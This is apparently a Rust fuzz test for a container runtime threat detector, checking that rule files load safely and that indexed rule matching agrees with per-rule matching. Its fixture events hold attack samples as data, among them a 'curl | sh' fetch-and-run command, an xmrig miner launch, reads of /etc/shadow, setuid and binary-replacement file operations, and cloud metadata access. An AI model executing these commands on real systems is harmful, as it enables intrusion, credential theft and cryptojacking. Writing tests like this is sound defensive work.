//! Rule files: any text loads into a rule set or a list of problems, never a panic. A set that
//! loads has unique rule ids and matches a fixed set of events (every kind, in and out of a
//! pod, each lineage) without panicking; the kind index it matches through finds exactly the
//! rules that match when each is tried on its own.
#![no_main]

use std::{
    collections::{BTreeMap, HashSet},
    net::{IpAddr, Ipv4Addr},
    sync::LazyLock,
};

use detector::{
    event::{
        Ancestor, Body, Connect, Container, Egress, Event, Exec, Exit, FileActivity, FileOperation,
        Lineage, Loss, Owner, Pod, ProcessFields, Role, Syscall, SyscallOperation,
    },
    rules::{Facts, RuleSet},
};
use libfuzzer_sys::fuzz_target;

fuzz_target!(|data: &[u8]| {
    let Ok(text) = std::str::from_utf8(data) else {
        return;
    };
    let set = match RuleSet::from_sources(&[("fuzz.yaml".to_owned(), text.to_owned())]) {
        Ok(set) => set,
        Err(err) => {
            let _ = err.to_string();
            return;
        }
    };
    let mut ids = HashSet::new();
    for rule in set.rules() {
        assert!(
            ids.insert(rule.meta().id.as_str()),
            "rule id {} loaded twice",
            rule.meta().id
        );
    }
    for event in EVENTS.iter() {
        for drift in [false, true] {
            let facts = Facts { event, drift };
            let indexed: Vec<&str> = set.matching(&facts).map(|r| r.meta().id.as_str()).collect();
            let each: Vec<&str> = set
                .rules()
                .iter()
                .filter(|r| r.matches(&facts))
                .map(|r| r.meta().id.as_str())
                .collect();
            assert_eq!(indexed, each, "the kind index disagrees on {event:?}");
        }
    }
});

/// Events of every kind, on the node and in a pod's container, under each lineage.
static EVENTS: LazyLock<Vec<Event>> = LazyLock::new(|| {
    let bodies = [
        Body::Exec(Exec {
            filename: "/bin/sh".into(),
            argv: vec![
                "sh".into(),
                "-c".into(),
                "curl -s http://10.0.0.1/x | sh".into(),
            ],
            argv_truncated: false,
            filename_truncated: false,
            tty: true,
            parent_cgroup_id: Some(7),
            fileless: false,
            stdin_socket: true,
            stdout_socket: false,
            deleted: false,
        }),
        Body::Exec(Exec {
            filename: "/tmp/.x/xmrig".into(),
            argv: vec![
                "xmrig".into(),
                "-o".into(),
                "stratum+tcp://pool:3333".into(),
            ],
            argv_truncated: true,
            filename_truncated: false,
            tty: false,
            parent_cgroup_id: None,
            fileless: true,
            stdin_socket: false,
            stdout_socket: true,
            deleted: true,
        }),
        Body::Exit(Exit {
            exit_code: 9,
            exit_status: None,
            signal: Some(9),
        }),
        Body::File(file(FileOperation::Open, "/etc/shadow", None, 0o1101)),
        Body::File(file(FileOperation::Chmod, "/tmp/x", None, 0o4755)),
        Body::File(file(
            FileOperation::Rename,
            "/tmp/payload",
            Some("/usr/bin/ls"),
            0,
        )),
        Body::File(file(
            FileOperation::Symlink,
            "/proc/1/root",
            Some("/tmp/root"),
            0,
        )),
        Body::Connect(Connect {
            family: "ipv4".into(),
            protocol: "tcp".into(),
            daddr: IpAddr::V4(Ipv4Addr::new(169, 254, 169, 254)),
            dport: 80,
            blocked: false,
        }),
        Body::Connect(Connect {
            family: "ipv6".into(),
            protocol: "udp".into(),
            daddr: "fd00:ec2::254".parse().unwrap(),
            dport: 4444,
            blocked: true,
        }),
        Body::Syscall({
            let mut call = Syscall::new(SyscallOperation::Setuid, "setresuid", 0);
            call.tags = vec!["to_root".into(), "from_non_root".into()];
            call.euid = Some(0);
            call
        }),
        Body::Syscall({
            let mut call = Syscall::new(SyscallOperation::Mount, "mount", -1);
            call.tags = vec!["fstype:proc".into(), "refused".into()];
            call.path = Some("/host".into());
            call
        }),
        Body::Egress(Egress {
            bytes: 1 << 30,
            packets: 1 << 20,
            interval_ms: 1000,
            total_bytes: 1 << 32,
        }),
        Body::Loss(Loss {
            source: "decode".into(),
            lost_kind: "file".into(),
            count: 1,
            total: 1,
            reason: Some("file record of 3 bytes, 96 needed".into()),
        }),
    ];
    let lineages = [
        None,
        Some(Role::Runtime),
        Some(Role::Entrypoint),
        Some(Role::ExecSession),
        Some(Role::Probe),
    ];
    let mut events = Vec::new();
    for body in bodies {
        for in_pod in [false, true] {
            for role in lineages {
                events.push(event(body.clone(), in_pod, role));
            }
        }
    }
    events
});

fn file(op: FileOperation, path: &str, target: Option<&str>, flags: u32) -> FileActivity {
    FileActivity {
        op,
        path: path.into(),
        flags,
        write: flags & 0o3 != 0,
        sensitive: true,
        read_sensitive: true,
        relative: false,
        dirfd: None,
        path_truncated: false,
        target: target.map(Into::into),
        suppressed: 0,
        result: Some(3),
        resolved: true,
        outside_root: false,
        joined: false,
        original_path: None,
        original_target: None,
        self_path: path
            .strip_prefix("/proc/1/")
            .map(|rest| format!("/proc/self/{rest}")),
        log: false,
        unresolved: false,
        io_uring: false,
    }
}

fn event(body: Body, in_pod: bool, role: Option<Role>) -> Event {
    let process = ProcessFields {
        pid: Some(4242),
        tid: Some(4242),
        ppid: Some(1),
        uid: Some(0),
        gid: Some(0),
        ns_pid: Some(7),
        comm: Some("nginx".into()),
    };
    let container = in_pod.then(|| Container {
        id: "4c1e2a5f3b9d8e7a6c5b4a3928171615f4e3d2c1b0a9988776655443322110ff".into(),
        runtime: "containerd".into(),
        name: Some("web".into()),
        image: Some("docker.io/library/nginx:1.27".into()),
    });
    let pod = in_pod.then(|| Pod {
        uid: "1f2e3d4c-5b6a-4789-9abc-def012345678".into(),
        namespace: Some("shop".into()),
        name: Some("web-7d9c".into()),
        labels: BTreeMap::from([("app".into(), "web".into())]),
        owner: Some(Owner {
            kind: "Deployment".into(),
            name: "web".into(),
        }),
        node: Some("node-1".into()),
        qos: Some("burstable".into()),
        resolved: true,
    });
    Event {
        time: detector::clock::Clock::with_offset(0).wall_time(1_700_000_000_000_000_000),
        ktime_ns: 42,
        process,
        cgroup_id: Some(7),
        container,
        pod,
        ancestry: vec![
            Ancestor {
                pid: 100,
                exe: "/usr/sbin/nginx".into(),
            },
            Ancestor {
                pid: 1,
                exe: "/usr/bin/containerd-shim-runc-v2".into(),
            },
        ],
        lineage: role.map(|role| Lineage {
            role,
            tty: role == Role::ExecSession,
            leader: role != Role::Probe,
        }),
        body,
    }
}
